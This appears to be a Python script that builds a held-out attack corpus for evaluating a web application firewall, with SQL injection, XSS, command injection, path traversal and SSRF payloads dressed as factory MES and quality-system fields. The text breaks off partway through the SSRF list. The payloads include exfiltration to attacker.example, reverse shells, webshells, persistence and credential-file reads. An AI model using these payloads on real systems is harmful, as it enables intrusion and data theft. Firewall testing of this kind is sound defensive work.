#!/usr/bin/env python3
"""Held-out attack corpus for the WAF: payloads hidden in factory MES / quality-system text.

Each value targets a vulnerable application that puts the field where its class says:
  <context>-<technique>[+<encoding>]
Contexts are the fields of the MES: partno (part number / revision search), workorder,
ncr (nonconformance / 8D narrative), inspection (measured values, tolerances), spc (SPC
notes, chart labels, exports), gcode (CNC program names and G-code), plctag (PLC tag
names, alarm texts, gateway hosts), bom (BOM lines), supplier (supplier quality messages,
portal links, mails), handover (shift notes), drawing (drawing / program file paths) and
plain (no domain dressing).

Categories: sqli, xss, cmdi, traversal, ssrf, code, nosqli, crlf, ldap-xpath.
Most values are hand-written literals; a small share comes from templates over
hand-written pools. Hosts are attacker.example / 203.0.113.0/24 / 198.51.100.0/24;
secrets are placeholders.

Output: attacks.jsonl next to this file. Deterministic (fixed seed, no set iteration).
"""

import json
import random
from pathlib import Path

SEED = 5402
PREFIX = "ha54"

# ---------------------------------------------------------------------------
# SQL injection: value concatenated into a SQL statement (string or numeric
# literal, LIKE pattern, ORDER BY, INSERT/UPDATE lists, identifiers).
# ---------------------------------------------------------------------------
SQLI = [
    ("partno-union", "4471-203' UNION SELECT username,password_hash,NULL FROM mes_users-- "),
    ("partno-boolean", "4471-203' OR '1'='1"),
    ("workorder-stacked", "118955; DROP TABLE work_orders;--"),
    ("ncr-time-blind", "NCR-5521' AND SLEEP(5)-- -"),
    ("inspection-time-blind-mssql", "12.03'; WAITFOR DELAY '0:0:5'--"),
    ("spc-error-based", "Op30' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    ("bom-union", "0010 | 4471-203' UNION ALL SELECT table_name,column_name,3,4 FROM information_schema.columns-- -"),
    ("supplier-stacked", "L-88213'; UPDATE suppliers SET rating='A', ppm=0 WHERE id=45;--"),
    ("handover-boolean", "Cell 3 OK' OR 1=1 LIMIT 1 OFFSET 2-- "),
    ("drawing-union-file-read", "4471-203_C.pdf' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("workorder-stacked-pg", "118955'; SELECT pg_sleep(7);--"),
    ("partno-error-oracle", "4471-203' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("ncr-stacked-xp-cmdshell", "5521'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7';--"),
    ("spc-boolean-blind", "12.0103' AND SUBSTRING((SELECT pin FROM operators WHERE badge='1001'),1,1)='4"),
    ("inspection-numeric-boolean", "12.03 OR 1=1"),
    ("workorder-order-by", "due_date, (CASE WHEN (SELECT COUNT(*) FROM mes_users)>5 THEN 1 ELSE 1/0 END)"),
    ("plctag-like-union", "Line2.Press3%' UNION SELECT tag_name, plc_password FROM plc_config-- "),
    ("bom-into-outfile", "4471-000' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/bom_x.php'-- -"),
    ("supplier-boolean-blind", "Precision Castings Ltd.' AND ASCII(SUBSTR((SELECT api_key FROM integrations LIMIT 1),1,1))>77-- "),
    ("partno-union-sqlite", "4471-203' UNION SELECT name, sql FROM sqlite_master--"),
    ("handover-time-blind-pg", "Line 2 jam'||(SELECT CASE WHEN (current_user='postgres') THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("ncr-stacked-insert", "NCR-5530'; INSERT INTO mes_users(login,role,pw) VALUES('qe_temp','admin','placeholder');--"),
    ("gcode-union", "O4471C' UNION SELECT program_text, owner FROM nc_programs WHERE machine='LB3000'-- "),
    ("inspection-error-based-mssql", "12.03' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("workorder-boolean", "WO-24-118733' OR 'x'='x'-- "),
    ("spc-stacked-copy-program", "Op30'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/s|sh';--"),
    ("bom-time-blind-subquery", "2-014-V75' AND (SELECT 1 FROM (SELECT SLEEP(6))x)-- -"),
    ("plctag-paren-boolean", "ALM_1042') OR ('a'='a"),
    ("supplier-union-nulls", "SCAR-0045' UNION SELECT NULL,NULL,NULL,concat(login,':',pwhash) FROM mes_users#"),
    ("handover-stacked-mssql-config", "shift note'; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--"),
    ("drawing-oob-xp-dirtree", r"4471-203'; EXEC master..xp_dirtree '\\203.0.113.9\share\x';--"),
    ("partno-oob-utl-http", "4471-203' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("ncr-oob-load-file-dns", r"5521' AND LOAD_FILE(CONCAT('\\\\',(SELECT database()),'.dns.attacker.example\\a'))-- -"),
    ("inspection-having", "12.03' HAVING 1=1--"),
    ("spc-error-based-group-by", "Op30' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- "),
    ("workorder-limit-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("bom-error-based-pg-cast", "4471-000' AND 1=CAST((SELECT passwd FROM pg_shadow LIMIT 1) AS int)--"),
    ("handover-union+comment-spaces", "Cell 3'/**/UNION/**/SELECT/**/login,pw/**/FROM/**/operators--"),
    ("partno-union+case", "4471-203' uNiOn SeLeCt user_name, pass_word fRoM mes_users-- "),
    ("ncr-union+url", "NCR-5521%27%20UNION%20SELECT%20login%2Cpwhash%20FROM%20mes_users--%20"),
    ("inspection-boolean+url2", "12.03%2527%2520OR%25201%253D1--%2520"),
    ("supplier-union-file-read+hex", "L-88213' UNION SELECT LOAD_FILE(0x2f6574632f706173737764),2-- -"),
    ("spc-union+char", "Op30' UNION SELECT pw,badge FROM operators WHERE login=CHAR(97,100,109,105,110)-- "),
    ("bom-boolean-scientific", "0010' or 1e0=1e0 -- "),
    ("plctag-identifier-breakout", "Line2`.`Press3` WHERE 1=1 UNION SELECT * FROM plc_secrets-- "),
    ("workorder-update-set", "Released', priority=1, note=(SELECT pwhash FROM mes_users WHERE id=1) WHERE wo_id=118955-- "),
    ("ncr-insert-values", "containment done'), (5599,(SELECT group_concat(login,0x3a,pwhash) FROM mes_users),'x')-- "),
    ("gcode-comment-union", "(OP30 ROUGH) ' UNION SELECT name,password FROM cnc_users-- "),
    ("inspection-like-boolean", "12.0%' AND (SELECT login FROM mes_users WHERE id=1) LIKE 'adm%' AND '%'='"),
    ("handover-stacked-delete", "Night shift OK.\n'; DELETE FROM shift_log WHERE shift_date < '2099-01-01';\n-- "),
    ("supplier-boolean+unicode-homoglyph", "L-88213\u02bc OR 1=1-- "),
    ("bom-boolean+overlong-utf8", "4471-000%c0%a7%20OR%201=1--"),
    ("drawing-stacked-sqlite-attach", "x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t(c text); INSERT INTO s.t VALUES('<?php system($_GET[0]);?>');--"),
    ("workorder-json-boolean", "{\"wo\": \"118955' OR '1'='1\", \"status\": \"Released\"}"),
    ("plctag-time-blind-mssql", "ALM_1042'; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '00:00:07';--"),
    ("ncr-boolean-blind-pg", "5521' AND (SELECT substr(passwd,1,1) FROM pg_shadow WHERE usename='mes')='m'--"),
    ("inspection-union-oracle", "12.03' UNION SELECT owner, table_name FROM all_tables--"),
    ("bom-stacked-openrowset", r"0010'; SELECT * FROM OPENROWSET(BULK 'C:\Windows\win.ini', SINGLE_CLOB) AS x;--"),
    ("supplier-stacked-pg-do", "L-88213'; DO $$BEGIN PERFORM pg_sleep(6); END$$;--"),
    ("partno-union+versioned-comment", "4471-203'/*!50000UNION*//*!50000SELECT*/login,pw FROM mes_users-- -"),
    ("gcode-stacked-update", "O4471C'; UPDATE nc_programs SET approved=1, approved_by='qe.manager' WHERE name LIKE 'O44%';--"),
    ("handover-error-based-pg-setting", "ok' AND 1=CAST(current_setting('data_directory') AS int)--"),
    ("workorder-in-list", "118955) OR 1=1 OR wo_id IN (1"),
    ("spc-boolean-subquery", "Op30' AND (SELECT COUNT(*) FROM mes_users WHERE role='admin' AND pwhash LIKE '$2b$%')>0-- "),
    ("inspection-stacked-multiline", "Result 12.03 -> NG\n';\nUPDATE inspection_results SET verdict='OK' WHERE lot='L2406-03';\n--"),
    ("handover-union", "Übergabe Spätschicht: Linie 2 läuft' UNION SELECT login,pwhash FROM mes_users-- "),
    ("ncr-boolean-blind", "不合格报告 NCR-5540' AND (SELECT COUNT(*) FROM mes_users)>0 AND '1'='1"),
    ("plain-comment-truncation", "admin'-- "),
    ("plain-union", "1' AND 1=2 UNION SELECT user(),database()#"),
    ("plain-stacked-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-time-blind", "1 AND (SELECT 5391 FROM (SELECT(SLEEP(4)))a)"),
    ("plain-concat-subquery", "'||(SELECT version())||'"),
    ("plain-boolean-dquote", "\" OR \"\"=\""),
    ("plain-boolean-numeric", "-1 OR 2>1"),
]

# ---------------------------------------------------------------------------
# XSS: value rendered into HTML (element body, attribute, JS string, href,
# comment, textarea/title) without escaping.
# ---------------------------------------------------------------------------
XSS = [
    ("ncr-script-tag", "Burr on cross hole <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("inspection-img-onerror", "12.03 -> NG <img src=x onerror=\"new Image().src='//attacker.example/l?c='+document.cookie\">"),
    ("handover-svg-onload", "Line 2 OK <svg onload=alert(document.domain)>"),
    ("bom-attr-breakout", "O-ring 2-014\" onmouseover=\"alert(1)\" x=\""),
    ("partno-attr-breakout-single", "4471-203' autofocus onfocus='fetch(`//attacker.example/`+localStorage.token)"),
    ("plctag-js-string-breakout", "Line2.Press3';fetch('//attacker.example/?'+document.cookie);//"),
    ("spc-script-breakout", "Op30</script><script>alert(origin)</script>"),
    ("supplier-iframe-srcdoc", "Please see <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("drawing-javascript-uri", "javascript:fetch('//attacker.example/d?'+document.cookie)"),
    ("workorder-details-ontoggle", "<details open ontoggle=alert(1)>Op 30 notes</details>"),
    ("ncr-textarea-breakout", "D4 root cause: see photo</textarea><img src=1 onerror=alert(1)>"),
    ("gcode-title-breakout", "(OP30)</title><script>alert(1)</script>"),
    ("handover-video-source-onerror", "Shift notes <video><source onerror=\"alert(document.cookie)\"></video>"),
    ("inspection-math-href", "<math><mtext><a href=\"javascript:alert(1)\">CMM report</a></mtext></math>"),
    ("bom-input-autofocus", "0030 screw <input autofocus onfocus=alert(document.cookie)>"),
    ("supplier-anchor-javascript", "<a href=\"javascript:alert(document.cookie)\">Click for PPAP docs</a>"),
    ("supplier-anchor-javascript+html-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">8D report</a>"),
    ("ncr-img-onerror+html-entity", "<img src=x onerror=\"&#97;lert&#40;document.domain&#41;\">"),
    ("spc-script-tag+unicode-escape", "<script>\\u0061lert(document.cookie)</script>"),
    ("handover-script-tag+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("plctag-img-onerror+url", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("drawing-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("workorder-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("inspection-body-onpageshow", "<body onpageshow=alert(document.domain)>"),
    ("bom-tagged-template", "<img src=x onerror=alert`1`>"),
    ("supplier-form-phishing", "<form action=\"https://attacker.example/login\" method=post><input name=pw placeholder=\"MES password\"><button>Session expired - log in again</button></form>"),
    ("ncr-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/mes-login\">"),
    ("handover-base-href", "<base href=\"https://attacker.example/\">"),
    ("gcode-comment-breakout", "(MSG, CHECK CLAMP)--><script>alert(1)</script><!--"),
    ("partno-img-onerror+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("spc-markdown-javascript-link", "[Cpk report](javascript:alert(document.cookie))"),
    ("plctag-img-exfil-dom", "<img src=x onerror=\"this.src='//attacker.example/?'+btoa(document.body.innerHTML)\">"),
    ("supplier-csti-angular", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("bom-csti-vue", "{{_c.constructor('alert(1)')()}}"),
    ("workorder-div-onmouseover", "<div style=\"position:fixed;inset:0\" onmouseover=\"alert(1)\">WO 118955</div>"),
    ("inspection-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("ncr-mutation-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("drawing-filename-breakout", "4471-203_C\"><svg onload=alert(1)>.pdf"),
    ("gcode-script-src", "O4471<script src=//attacker.example/x.js></script>"),
    ("spc-js-json-breakout", "Op30\"}]};alert(1);//"),
    ("supplier-email-html-beacon", "Dear team,<br><img src=\"https://attacker.example/track.gif?u=qe\" style=display:none onload=\"fetch('/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example/u',t))\">"),
    ("handover-script-multiline", "Shift notes\n- L1: OK\n<script>\nfetch('/api/admin/users',{credentials:'include'}).then(r=>r.text()).then(d=>fetch('https://attacker.example/x',{method:'POST',body:d}))\n</script>"),
    ("ncr-svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=10 y=20>see 8D</text></a></svg>"),
    ("partno-svg-onload-slash-separator", "<svg/onload=alert(1)>"),
    ("bom-javascript-uri+html-entity-tab", "<a href=\"jav&#x09;ascript:alert(1)\">BOM datasheet</a>"),
    ("inspection-script-tag+url2", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("plctag-img-onerror+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("workorder-onanimationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(1)\">HOT</b>"),
    ("ncr-embed-svg", "<embed src=\"https://attacker.example/x.svg\" type=\"image/svg+xml\">"),
    ("supplier-css-exfil", "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("gcode-img-in-block", "N120 G01 X10.5 F0.18 <img src=/ onerror=alert(1)>"),
    ("inspection-select-onfocus", "<select autofocus onfocus=alert(1)><option>OK<option>NG</select>"),
    ("drawing-svg-inline", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"/>"),
    ("bom-javascript-uri+html-entity-hex", "<a href=\"&#x6A;avascript&#x3A;alert(1)\">datasheet</a>"),
    ("spc-img-onerror+charcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("workorder-js-template-literal", "${alert(document.cookie)}"),
    ("handover-onpointerenter", "<p onpointerenter=alert(1)>Bitte sauber machen</p>"),
    ("partno-iframe-srcdoc+html-entity", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>"),
    ("ncr-button-formaction", "<form><button formaction=\"javascript:alert(1)\">Close NCR</button></form>"),
    ("supplier-link-stylesheet", "<link rel=stylesheet href=\"https://attacker.example/portal.css\">"),
    ("spc-attr-breakout-unquoted", "12.011 onmouseover=alert(1) x="),
    ("plctag-js-string-breakout-dquote", "ALM_1042\";document.location='https://attacker.example/?c='+document.cookie;//"),
    ("bom-table-td-onclick", "</td><td onclick=alert(1)>0020</td>"),
    ("handover-marquee-onstart", "<marquee onstart=alert(1)>Sleep well!</marquee>"),
    ("drawing-svg-use-href", "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0nbScgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nL25vbmUucG5nJyBvbmVycm9yPSdmZXRjaChgLy9hdHRhY2tlci5leGFtcGxlL3U/YCtkb2N1bWVudC5jb29raWUpJy8+PC9zdmc+#m\"/></svg>"),
    ("inspection-img-onerror-multilingual", "检验结果：Ø8.02 超差 <img src=x onerror=alert(document.domain)>"),
    ("handover-svg-onload-multilingual", "Przekazanie zmiany: frezarka nr 5 OK <svg onload=\"fetch('//attacker.example/z?'+document.cookie)\">"),
    ("plain-script-tag", "<script>alert('xss')</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(document.domain)</script>"),
    ("plain-svg-script+html-entity", "<svg><script>alert&#40;1&#41;</script>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-js-string-breakout", "'-alert(1)-'"),
    ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
]

# ---------------------------------------------------------------------------
# Command injection: value placed in a shell command line (label printing,
# DNC transfer, PLC ping, CSV export, archive / find / scp arguments).
# ---------------------------------------------------------------------------
CMDI = [
    ("gcode-semicolon", "O4471C.nc; curl -s http://attacker.example/i.sh | sh"),
    ("drawing-cmdsub", "4471-203_C$(id>/tmp/.x).pdf"),
    ("plctag-backtick", "192.168.10.21`wget -q -O- http://203.0.113.5/p|sh`"),
    ("bom-pipe", "4471-000 | nc 203.0.113.8 4444 -e /bin/sh"),
    ("handover-and", "shift_report && rm -rf /opt/mes/data"),
    ("workorder-or", "118955 || bash -i >& /dev/tcp/203.0.113.10/443 0>&1"),
    ("ncr-newline", "NCR-5521\ncat /etc/shadow | curl -d @- http://attacker.example/u"),
    ("inspection-semicolon-ifs", "12.03;cat${IFS}/etc/passwd"),
    ("spc-windows-amp-powershell", "SPC_Op30_2024-Q2.csv & powershell -nop -w hidden -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("supplier-windows-pipe-certutil", r"SCAR-0045.pdf | certutil -urlcache -split -f http://198.51.100.12/x.exe %TEMP%\x.exe"),
    ("drawing-arg-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("gcode-arg-injection-scp", "-oProxyCommand=sh -c 'curl attacker.example|sh' O4471C.nc"),
    ("partno-cmdsub+hex", "4471-203;$(printf '\\x69\\x64')"),
    ("plctag-ping-backtick-dns", "10.0.5.20 -c 1; nslookup `whoami`.attacker.example"),
    ("ncr-squote-breakout", "NCR-5521' ; touch /tmp/pwn ; echo '"),
    ("inspection-dquote-breakout", "12.03\"; sleep 10; echo \""),
    ("spc-redirect-webshell", "Op30; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/spc.php"),
    ("supplier-pipe+base64", "L-88213;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo|base64 -d|sh"),
    ("workorder-semicolon-glob", "118955;/???/??t /???/p??s??"),
    ("drawing-semicolon-quote-splitting", "4471;w'h'o'a'm'i"),
    ("gcode-semicolon-backslash-splitting", "O4471;c\\at /e\\tc/pa\\sswd"),
    ("handover-windows-amp-caret-splitting", "Line2 & w^h^o^a^m^i"),
    ("plctag-windows-amp-powershell+base64", "PLC-07 & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAGEALgBwAHMAMQAnACkA"),
    ("bom-env-exfil", "0010;env|curl -X POST --data-binary @- http://attacker.example/e"),
    ("ncr-pipe-sleep", "5521|sleep 7"),
    ("inspection-windows-amp-ping-delay", "12.03 & ping -n 8 127.0.0.1"),
    ("spc-cmdsub-dns-exfil", "Op30;dig $(hostname).x.attacker.example"),
    ("supplier-and-curl-upload", "L-88213 && curl -F f=@/etc/mes/db.conf http://203.0.113.44/up"),
    ("workorder-python-reverse-shell", "118955; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("gcode-backtick-perl", "O4471C.nc`perl -e 'system(\"id\")'`"),
    ("handover-crontab-persistence", "ok; (crontab -l; echo '* * * * * curl -s http://attacker.example/b|sh') | crontab -"),
    ("plctag-ssh-key-persistence", "PLC-07; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERPLACEHOLDERPLACEHOLDER00 x@attacker.example' >> ~/.ssh/authorized_keys"),
    ("bom-arg-injection-find", "4471-000 -o -exec sh -c 'id>/tmp/o' ;"),
    ("ncr-semicolon+url", "NCR-5521%3Bcat%20%2Fetc%2Fpasswd"),
    ("inspection-newline+url", "12.03%0Aid"),
    ("spc-semicolon+url2", "Op30%253Bid%253Bcurl%2520attacker.example"),
    ("supplier-semicolon+ansi-c-hex", "L-88213;$'\\x63\\x61\\x74' /etc/passwd"),
    ("workorder-semicolon-brace-expansion", "118955;{cat,/etc/passwd}"),
    ("drawing-windows-dquote-breakout", r"4471-203_C.pdf" + "\" & type C:\\Windows\\win.ini & \""),
    ("gcode-windows-amp-net-user", "COM3 & net user mesadmin Placeholder-Pass-1 /add"),
    ("handover-semicolon-awk", "Line 2 ok;awk 'BEGIN{system(\"id\")}'"),
    ("plctag-pipe-busybox-telnetd", "PLC-07|busybox telnetd -p 2323 -l /bin/sh"),
    ("drawing-arg-injection-git", "--upload-pack=touch /tmp/pwn"),
    ("inspection-cmdsub-nested-exfil", "12.03$(curl -s http://attacker.example/?d=$(cat /etc/hostname))"),
    ("gcode-newline-multiline", "(OP30 FINISH)\nM30\n%\n;wget http://203.0.113.5/k -O /tmp/k;chmod +x /tmp/k;/tmp/k"),
    ("handover-semicolon-tab", "ok;\tcat\t/etc/passwd"),
    ("supplier-semicolon-powershell", r"SCAR-0045; Invoke-WebRequest -Uri http://attacker.example/p -OutFile $env:TEMP\p.exe; Start-Process $env:TEMP\p.exe"),
    ("workorder-windows-for-dns", "118955 & for /f %i in ('whoami') do nslookup %i.attacker.example"),
    ("partno-semicolon-sleep-ifs", "4471-203;sleep${IFS}9"),
    ("plctag-windows-pipe-type", r"10.0.5.20 | type C:\inetpub\wwwroot\web.config"),
    ("bom-cmdsub-reverse", "0010;$(rev<<<'dwssap/cte/ tac')"),
    ("ncr-semicolon-variable-concat", "5521;a=ca;b=t;$a$b /etc/passwd"),
    ("partno-and-wget-chmod", "4471-205 && wget -q http://198.51.100.3/m -O /tmp/m && chmod 755 /tmp/m && /tmp/m"),
    ("drawing-semicolon-tee", "4471-203_C.pdf;id|tee /var/www/html/o.txt"),
    ("spc-or-false", "Op30 || /bin/false; uname -a"),
    ("supplier-backtick-sleep", "L-88213`sleep 8`"),
    ("bom-newline+url2", "0010%250Auname%2520-a"),
    ("workorder-cmdsub-arithmetic", "118955;echo $((6*7))$(id -u)"),
    ("gcode-arg-injection-rsync", "-e sh -c 'curl http://attacker.example/r|sh' O4471C.nc"),
    ("plctag-semicolon-dollar-at-splitting", "PLC-07;w$@h$@o$@ami"),
    ("drawing-semicolon-unicode-filename", "Zeichnung_4471-203_Änderung_C.pdf;id;uname -a"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-cmdsub", "$(cat /etc/passwd)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& ls -la /root"),
    ("plain-or-ping", "|| ping -c 5 203.0.113.1"),
    ("plain-newline", "\n/usr/bin/id\n"),
]

# ---------------------------------------------------------------------------
# Path traversal: value joined to a base directory (drawing viewer, NC program
# download, CMM report, label templates, attachments).
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("drawing-dotdot", "4471-203/../../../../etc/passwd"),
    ("drawing-dotdot-windows", r"..\..\..\..\Windows\win.ini"),
    ("gcode-dotdot", "O4471C/../../../../../opt/mes/config/database.yml"),
    ("drawing-dotdot+url", "..%2F..%2F..%2F..%2Fetc%2Fshadow"),
    ("drawing-dotdot+url2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("ncr-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("bom-absolute-proc", "/proc/self/environ"),
    ("inspection-dotdot-nested", "....//....//....//etc/passwd"),
    ("gcode-dotdot-mixed-separators", r"..\../..\../Windows/System32/drivers/etc/hosts"),
    ("drawing-dotdot-null-byte", "../../../../etc/passwd%00.pdf"),
    ("drawing-dotdot+unicode-fullwidth", "．．／．．／．．／etc／passwd"),
    ("spc-dotdot-export", "SPC_Op30_2024-Q2.csv/../../../../../var/log/mes/auth.log"),
    ("plctag-dotdot-backup", "LB3000_2024-06-01/../../../../etc/mes/plc_credentials.ini"),
    ("handover-dotdot-attachment", "photo_jam.jpg/../../../../home/mes/.ssh/id_rsa"),
    ("workorder-dotdot-windows-webconfig", r"..\..\..\..\..\inetpub\wwwroot\web.config"),
    ("gcode-dotdot+url", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("bom-dotdot-windows+url", "..%5c..%5c..%5c..%5cboot.ini"),
    ("ncr-zip-slip", "../../../../opt/mes/webapp/static/x.jsp"),
    ("supplier-dotdot-attachment-windows", r"..\..\..\ProgramData\MES\config\appsettings.json"),
    ("inspection-dotdot-cmm-report", r"4471-203C_SN100451.pdf\..\..\..\..\Windows\System32\config\SAM"),
    ("drawing-dotdot-proc-cmdline", "../../../../proc/self/cmdline"),
    ("gcode-dotdot-path-parameter", "..;/..;/manager/html"),
    ("partno-absolute-windows", r"C:\Windows\System32\drivers\etc\hosts"),
    ("handover-dotdot+unicode-escape", "\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd"),
    ("plctag-dotdot+percent-u", "..%u002f..%u002f..%u002fetc%u002fpasswd"),
    ("drawing-dotdot-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("bom-dotdot-windows+url2", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("gcode-dotdot-absolute-prefix", "/home/cnc/../../root/.bash_history"),
    ("ncr-dotdot-windows-ads", r"..\..\..\..\Windows\win.ini::$DATA"),
    ("spc-dotdot+overlong-utf8-3byte", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("inspection-dotdot-dotslash", "./.././.././.././etc/passwd"),
    ("handover-dotdot-access-log", "../../../../var/log/nginx/access.log"),
    ("workorder-dotdot-template-include", "../../../../../../usr/share/mes/templates/../../../../etc/hosts"),
    ("drawing-dotdot-web-inf", "4471-203_C.pdf/../../WEB-INF/web.xml"),
    ("gcode-dotdot-ssh-keys", "../../../../root/.ssh/authorized_keys"),
    ("bom-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("supplier-dotdot-git-config", "../../../.git/config"),
    ("inspection-dotdot-env", "../../../.env"),
    ("partno-dotdot-proc-1", "4471-203_C/../../../../proc/1/environ"),
    ("plctag-dotdot-windows-unc-local", r"\\localhost\c$\Windows\win.ini"),
    ("workorder-dotdot-path-parameter+url", "setup/4471-203C_OP30.pdf/..%3B/..%3B/..%3B/..%3B/..%3B/..%3B/etc/passwd"),
    ("ncr-dotdot-double-slash", "..//..//..//..//etc//shadow"),
    ("spc-absolute-dotdot-normalize", "/etc/mes/../mes/../passwd"),
    ("drawing-dotdot-multilingual-folder", "図面/4471-203/../../../../etc/shadow"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", r"..\..\..\windows\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
]

# ---------------------------------------------------------------------------
# SSRF: value used as a URL / host that the server fetches (drawing import,
# supplier portal link, alarm webhook, PLC gateway, PDF renderer).
# ---------------------------------------------------------------------------
SSRF = [
    ("supplier-cloud-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("drawing-cloud-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("plctag-loopback-actuator", "http://127.0.0.1:8080/actuator/env"),
    ("workorder-loopback+decimal-ip", "http://2130706433/admin"),
    ("bom-loopback-redis+hex-ip", "http://0x7f000001:6379/"),
    ("ncr-loopback+octal-ip", "http://0177.0.0.1/server-status"),
    ("supplier-ipv6-loopback-elastic", "http://[::1]:9200/_cat/indices"),
    ("drawing-cloud-metadata+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("inspection-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("spc-file-scheme", "file:///etc/passwd"),
    ("handover-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("plctag-internal-plc-web", "http://192.168.10.21/cgi-bin/plc_config?write=1&run=0"),
    ("gcode-loopback-admin", "http://localhost:5000/admin/users/delete?id=1"),
    ("supplier-userinfo-confusion", "https://supplierportal.example.com@169.254.169.254/latest/user-data"),
    ("drawing-dns-rebinding", "http://rebind.attacker.example/latest/meta-data/"),
    ("ncr-open-redirect-chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("bom-loopback-consul+short-ip", "http://127.1:8500/v1/agent/self"),
    ("workorder-zero-ip-docker", "http://0.0.0.0:2375/containers/json"),
    ("inspection-cloud-metadata+url", "http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/"),
    ("spc-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①:8080/"),
    ("plctag-cloud-metadata-azure", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("handover-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
